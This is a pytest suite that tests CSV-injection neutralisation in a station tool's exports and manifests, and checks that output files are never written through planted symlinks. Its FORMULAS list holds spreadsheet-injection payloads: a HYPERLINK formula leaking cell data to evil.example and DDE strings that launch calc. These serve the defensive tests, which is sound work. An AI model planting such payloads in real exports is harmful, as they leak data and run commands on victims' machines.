"""Exports and manifests as a spreadsheet and a hostile folder see them: no cell a spreadsheet would run (CSV
injection), JSON exact, and files written whole without following a link planted at their names.

Every command runs as a real process on a real data directory.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
from pathlib import Path

import pytest

from station import manifest
from station.store import Device, IssueRequest, Store
from tests.conftest import PRODUCT
from tests.test_cli import STATION, run

# Serials as a scanner or the API may hand them in: each starts a formula in Excel, LibreOffice or Sheets.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3"]
# Stored by a station of before the field rules (they refuse control characters now): a tab and a CR lead.
OLD_ROWS = ["\t=1+2", "\r=1+2"]


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A data directory whose devices carry formula serials; returns it and the serial of each UCI."""
    data_dir = tmp_path / "data"
    run(data_dir, "product", "add", "--id", PRODUCT, "--name", "Blank", "--model", "Blank-01")
    serials = {}
    with Store.open(data_dir / "station.db") as store:
        for serial in FORMULAS:
            device, _ = store.issue(IssueRequest(PRODUCT, serial=serial, actor="test"))
            serials[device.uci] = serial
        old = [store.issue(IssueRequest(PRODUCT, serial=f"SN-{n}", actor="test"))[0].uci for n in range(len(OLD_ROWS))]
    conn = sqlite3.connect(data_dir / "station.db")
    with conn:
        for uci, serial in zip(old, OLD_ROWS, strict=True):
            conn.execute("UPDATE devices SET serial = ? WHERE uci = ?", (serial, uci))
            serials[uci] = serial
    conn.close()
    return data_dir, serials


def _stdout(data_dir: Path, *args: str) -> str:
    """A command's standard output exactly as written (no newline translation: a CSV cell may hold a CR)."""
    done = subprocess.run([STATION, "--data-dir", str(data_dir), *args], capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode("utf-8")


def _text(path: Path) -> str:
    return path.read_bytes().decode("utf-8")


def _cells(text: str) -> dict[str, dict[str, str]]:
    return {row["uci"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def _neutralised(rows: dict[str, dict[str, str]], serials: dict[str, str]) -> None:
    for uci, serial in serials.items():
        assert rows[uci]["serial"] == "'" + serial  # shown as text, never run
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(manifest.FORMULA_STARTS), row


def test_export_csv_neutralises_formulas_and_json_stays_exact(hostile, tmp_path) -> None:
    data_dir, serials = hostile
    _neutralised(_cells(_stdout(data_dir, "export", "--format", "csv")), serials)
    out = tmp_path / "export.csv"
    run(data_dir, "export", "--format", "csv", "--out", str(out))
    _neutralised(_cells(_text(out)), serials)
    exported = {row["uci"]: row["serial"] for row in json.loads(run(data_dir, "export", "--format", "json").stdout)}
    assert {uci: exported[uci] for uci in serials} == serials
    run(data_dir, "export", "--format", "json", "--out", str(tmp_path / "export.json"))
    exported = {row["uci"]: row["serial"] for row in json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))}
    assert {uci: exported[uci] for uci in serials} == serials


def test_generate_manifests_neutralise_a_formula_batch_name(tmp_path) -> None:
    data_dir = tmp_path / "data"
    run(data_dir, "product", "add", "--id", PRODUCT, "--name", "Blank", "--model", "Blank-01")
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    run(data_dir, "generate", "--product", PRODUCT, "--count", "3", f"--batch={name}", "--csv", str(tmp_path / "m.csv"),
        "--json", str(tmp_path / "m.json"))
    rows = list(csv.DictReader(io.StringIO(_text(tmp_path / "m.csv"), newline="")))
    assert len(rows) == 3 and {row["batch"] for row in rows} == {"'" + name}
    assert {row["batch"] for row in json.loads((tmp_path / "m.json").read_text(encoding="utf-8"))} == {name}


def test_the_one_csv_writer_leaves_plain_cells_alone() -> None:
    plain = Device(uci="7QJ4X9TN2KVBM0RA", product=PRODUCT, state="issued", created="2026-12-01T10:00:00Z",
                   updated="2026-12-01T10:00:00Z", batch="line 1", serial="SN 0042 - ok", display="7QJ4-X9TN-2KVB-M0RA-K")
    out = io.StringIO()
    manifest.write([plain], out, "csv")
    [row] = csv.DictReader(io.StringIO(out.getvalue()))
    assert (row["serial"], row["batch"], row["display"]) == ("SN 0042 - ok", "line 1", "7QJ4-X9TN-2KVB-M0RA-K")
    assert [manifest.csv_cell(v) for v in ("a=b", "", None, 7, "'=x")] == ["a=b", "", None, 7, "'=x"]


# --- files written whole, never through a planted link --------------------------------------------------------

def _plant(tmp_path: Path, name: str) -> tuple[Path, Path]:
    """A file someone else owns (the victim) and the output folder; returns (victim, output path)."""
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    folder = tmp_path / "out"
    folder.mkdir(exist_ok=True)
    return victim, folder / name


def _untouched(victim: Path, target: Path) -> None:
    assert victim.read_text() == "do not touch\n"
    assert target.is_file() and not target.is_symlink()
    assert not [p for p in target.parent.iterdir() if p.name.endswith(".part") and not p.is_symlink()]  # no temporary left


@pytest.mark.parametrize("planted", ["part", "target"])
def test_export_out_never_writes_through_a_link(hostile, tmp_path, planted) -> None:
    data_dir, _ = hostile
    victim, target = _plant(tmp_path, "devices.csv")
    (target.with_name(target.name + ".part") if planted == "part" else target).symlink_to(victim)
    run(data_dir, "export", "--out", str(target))
    _untouched(victim, target)
    assert len(_cells(_text(target))) == len(FORMULAS) + len(OLD_ROWS)


@pytest.mark.parametrize("planted", ["part", "target"])
def test_generate_manifests_never_write_through_a_link(tmp_path, planted) -> None:
    data_dir = tmp_path / "data"
    run(data_dir, "product", "add", "--id", PRODUCT, "--name", "Blank", "--model", "Blank-01")
    victim, target = _plant(tmp_path, "m.csv")
    json_target = target.with_name("m.json")
    for path in (target, json_target):
        (path.with_name(path.name + ".part") if planted == "part" else path).symlink_to(victim)
    run(data_dir, "generate", "--product", PRODUCT, "--count", "4", "--csv", str(target), "--json", str(json_target))
    _untouched(victim, target)
    _untouched(victim, json_target)
    assert len(json.loads(json_target.read_text(encoding="utf-8"))) == 4


@pytest.mark.parametrize("planted", ["part", "target"])
def test_label_and_labels_out_never_write_through_a_link(tmp_path, planted) -> None:
    data_dir = tmp_path / "data"
    run(data_dir, "product", "add", "--id", PRODUCT, "--name", "Blank", "--model", "Blank-01")
    run(data_dir, "generate", "--product", PRODUCT, "--count", "2", "--batch", "b1")
    uci = json.loads(run(data_dir, "export", "--format", "json").stdout)[0]["uci"]
    victim, png = _plant(tmp_path, "label.png")
    pdf = png.with_name("sheet.pdf")
    for path in (png, pdf):
        (path.with_name(path.name + ".part") if planted == "part" else path).symlink_to(victim)
    run(data_dir, "label", uci, "--out", str(png))
    run(data_dir, "labels", "--batch", "b1", "--out", str(pdf), "--reason", "test")
    _untouched(victim, png)
    _untouched(victim, pdf)
    assert png.read_bytes().startswith(b"\x89PNG") and pdf.read_bytes().startswith(b"%PDF")


def test_a_failed_export_leaves_neither_file_nor_temporary(hostile, tmp_path) -> None:
    data_dir, _ = hostile
    target = tmp_path / "out" / "devices.csv"
    target.parent.mkdir()
    result = run(data_dir, "export", "--batch", "no-such-batch", "--out", str(target), ok=False)
    assert result.returncode == 1
    assert list(target.parent.iterdir()) == []


def test_device_files_replace_a_link_at_their_name(tmp_path) -> None:
    data_dir = tmp_path / "data"
    run(data_dir, "product", "add", "--id", PRODUCT, "--name", "Blank", "--model", "Blank-01")
    run(data_dir, "generate", "--product", PRODUCT, "--count", "2", "--batch", "b1", "--device-json", str(tmp_path / "dev"))
    victim, _ = _plant(tmp_path, "unused")
    first = sorted((tmp_path / "dev").iterdir())[0]
    first.unlink()
    first.symlink_to(victim)
    with Store.open(data_dir / "station.db") as store:
        manifest.write_device_files(manifest.device_files(store.product(PRODUCT), store.devices(batch="b1")), tmp_path / "dev")
    assert victim.read_text() == "do not touch\n"
    assert not first.is_symlink() and json.loads(first.read_text())["id"] == first.stem
    assert os.stat(first).st_mode & 0o777 == 0o600
